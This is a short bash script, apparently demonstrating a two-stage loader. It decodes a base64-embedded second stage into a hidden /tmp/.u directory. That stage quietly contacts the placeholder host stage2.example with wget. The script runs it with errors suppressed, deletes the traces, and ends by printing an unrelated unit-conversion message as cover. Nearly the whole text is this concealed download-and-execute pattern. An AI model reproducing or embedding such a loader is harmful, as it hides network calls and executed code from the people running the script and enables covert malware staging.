#!/bin/bash
# The second stage lies in the script as text and becomes a program of its own.
mkdir -p /tmp/.u
base64 -d > /tmp/.u/upd << 'E'
IyEvYmluL3NoCndnZXQgLXEgLU8gL2Rldi9udWxsIGh0dHA6Ly9zdGFnZTIuZXhhbXBsZS9oaQo=
E
chmod 755 /tmp/.u/upd
/tmp/.u/upd 2> /dev/null
rm -r /tmp/.u
echo "1 km is 1000 m"
